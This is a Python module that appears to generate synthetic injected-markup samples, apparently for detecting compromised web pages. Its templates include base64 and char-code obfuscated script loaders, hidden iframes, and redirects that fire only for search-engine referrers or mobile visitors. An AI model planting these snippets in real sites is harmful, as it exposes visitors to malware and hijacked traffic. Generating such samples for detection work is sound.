"""Ways this edition's attackers load or jump to foreign code: each returns (markup, where) for a
URL on a never-seen host; where is "head", "body-top" or "body-end"."""

# ruff: noqa: E501

from __future__ import annotations

import base64
import random
from collections.abc import Callable

Style = Callable[[str, random.Random], tuple[str, str]]


def _encoded(url: str, rng: random.Random) -> tuple[str, str]:
    code = f"var s=document.createElement('script');s.src='{url}';document.body.appendChild(s);"
    return f"<script>eval(atob('{base64.b64encode(code.encode()).decode()}'));</script>", "body-end"


def _charcodes(url: str, rng: random.Random) -> tuple[str, str]:
    codes = ",".join(str(ord(c)) for c in url)
    return (
        "<script>(function(){var u=String.fromCharCode("
        + codes
        + ");var d=document,s=d.createElement('script');"
        "s.async=true;s.src=u;d.getElementsByTagName('head')[0].appendChild(s);})();</script>",
        "body-end",
    )


STYLES: dict[str, Style] = {
    "src-head": lambda url, rng: (f'<script type="text/javascript" src="{url}"></script>', "head"),
    "src-end": lambda url, rng: (f'<script src="{url}" charset="utf-8"></script>', "body-end"),
    "async-loader": lambda url, rng: (
        "<script>(function(){var hm=document.createElement('script');hm.src='" + url + "?v='+Date.now();"
        "var s=document.getElementsByTagName('script')[0];s.parentNode.insertBefore(hm,s);})();</script>",
        "body-end",
    ),
    "document-write": lambda url, rng: (
        f"<script>document.write('<scr'+'ipt src=\"{url}\"></scr'+'ipt>');</script>",
        "body-top",
    ),
    "iframe": lambda url, rng: (
        f'<iframe src="{url}" width="0" height="0" frameborder="0" style="display:none"></iframe>',
        "body-end",
    ),
    "iframe-offscreen": lambda url, rng: (
        f'<iframe src="{url}" style="position:absolute;left:-2000px;top:0" width="300" height="250"></iframe>',
        "body-top",
    ),
    "meta-refresh": lambda url, rng: (
        f'<meta http-equiv="refresh" content="{rng.choice((0, 3, 8))};url={url}">',
        "head",
    ),
    "referrer-redirect": lambda url, rng: (
        "<script>if(/baidu|sogou|so\\.com|sm\\.cn|bing/i.test(document.referrer)){window.location.href='"
        + url
        + "';}</script>",
        "head",
    ),
    "mobile-redirect": lambda url, rng: (
        "<script>if(/Android|iPhone|iPad|Mobile/i.test(navigator.userAgent)){location.replace('"
        + url
        + "');}"
        "</script>",
        "head",
    ),
    "timer-redirect": lambda url, rng: (
        f"<script>setTimeout(function(){{top.location='{url}';}},{rng.choice((1500, 3000, 6000))});</script>",
        "body-end",
    ),
    "encoded": _encoded,
    "charcodes": _charcodes,
    "defer-lookalike": lambda url, rng: (
        f'<script defer src="{url}" crossorigin="anonymous"></script>',
        "head",
    ),
}
REDIRECTS = frozenset({"meta-refresh", "referrer-redirect", "mobile-redirect", "timer-redirect"})
FRAMES = frozenset({"iframe", "iframe-offscreen"})
